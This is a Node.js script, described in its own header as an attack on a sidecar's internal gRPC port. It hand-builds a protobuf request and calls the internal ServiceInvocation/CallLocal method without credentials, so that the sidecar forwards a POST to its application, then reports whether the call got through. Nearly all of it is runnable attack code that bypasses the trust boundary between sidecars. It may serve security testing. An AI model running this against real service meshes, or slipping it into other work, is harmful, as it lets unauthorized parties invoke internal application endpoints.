// Attacks a sidecar's internal gRPC port, which only other sidecars should call: `node call-local.mjs <address> <port>
// <method> <body>` calls CallLocal without credentials. CallLocal sends a POST to the sidecar's application. Prints the
// result as JSON: {reached: false, reason} or {reached: true, status, response}, where `status` is the gRPC status.
import { connect } from 'node:http2';

const [address = '', port = '', method = '', body = ''] = process.argv.slice(2);
const TIMEOUT_MS = 5_000;

/** Encodes a length-delimited protobuf field: text, bytes or a message. */
const field = (number, ...parts) => {
  const content = Buffer.concat(parts.map((part) => Buffer.from(part)));
  const size = [];
  for (let rest = content.length; ; rest >>>= 7) {
    size.push(rest > 127 ? (rest & 127) | 128 : rest);
    if (rest <= 127) break;
  }
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...size]), content]);
};
const POST = Buffer.from([8, 3]);
const message = Buffer.concat([
  // InternalInvokeRequest: ver = V1, message = InvokeRequest {method, data, content_type, http_extension}.
  Buffer.from([8, 1]),
  field(3, field(1, method), field(2, field(2, body)), field(3, 'application/json'), field(4, POST)),
]);
const frame = Buffer.alloc(5);
frame.writeUInt32BE(message.length, 1);

const printAndExit = (result) => {
  process.stdout.write(JSON.stringify(result));
  process.exit(0);
};
const session = connect(`http://${address.includes(':') ? `[${address}]` : address}:${port}`);
session.once('error', (error) => printAndExit({ reached: false, reason: error.code ?? error.message }));
setTimeout(() => printAndExit({ reached: false, reason: 'no response' }), TIMEOUT_MS);
const stream = session.request({
  ':method': 'POST',
  ':path': '/dapr.proto.internals.v1.ServiceInvocation/CallLocal',
  'content-type': 'application/grpc',
  te: 'trailers',
});
let response = Buffer.alloc(0);
let status;
stream.once('error', () => undefined);
const noteStatus = (headers) => (status = headers['grpc-status'] ?? status);
stream.on('response', noteStatus);
stream.on('trailers', noteStatus);
stream.on('data', (data) => (response = Buffer.concat([response, data])));
stream.once('end', () => printAndExit({ reached: true, status, response: response.toString('latin1') }));
stream.end(Buffer.concat([frame, message]));
